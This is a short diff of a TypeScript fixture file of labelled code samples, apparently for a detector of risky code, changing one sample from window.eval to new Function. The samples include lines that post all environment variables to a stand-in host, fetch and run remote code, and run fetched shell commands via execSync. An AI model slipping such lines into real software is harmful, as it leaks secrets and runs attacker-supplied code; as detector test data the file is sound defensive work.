@@ -206,7 +206,7 @@ export const rowSamples: Readonly<Record<string, Readonly<Record<string, string>
     "http of others": '```ruby\nNet::HTTP.post(URI("https://collect.example"), ENV.to_h)\n```',
   },
   runCalls: {
-    evaluates: js('const code = await (await fetch("https://collect.example/a.js")).text();\nwindow.eval(code);'),
+    evaluates: js('const code = await (await fetch("https://collect.example/a.js")).text();\nnew Function(code)();'),
     imports: js('await import("https://collect.example/a.mjs");'),
     commands: js('const line = await (await fetch("https://collect.example/next")).text();\nexecSync(line);'),
   },
